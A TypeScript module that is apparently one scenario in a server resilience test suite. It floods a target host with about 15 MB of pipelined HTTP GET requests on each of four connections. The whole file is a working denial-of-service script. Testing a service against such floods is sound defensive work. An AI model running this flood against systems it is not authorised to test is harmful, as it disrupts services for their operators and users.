import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 4;
const BYTES = 15 * 1024 * 1024;

/** Node.js reads all requests that one connection sends at once, and starts each of them. */
export const attack: Attack = {
  title: 'a stranger pipelines 15 MB of requests on each of four connections',
  run: async ({ host, port }) => {
    const request = `GET /api/v1/leads HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const requests = Buffer.from(request.repeat(Math.floor(BYTES / request.length)));
    const sockets = Array.from({ length: CONNECTIONS }, () => {
      const socket = connect(port, host, () => socket.write(requests));
      return socket.on('error', () => undefined).resume();
    });
    await sleep(5_000);
    for (const socket of sockets) socket.destroy();
  },
};
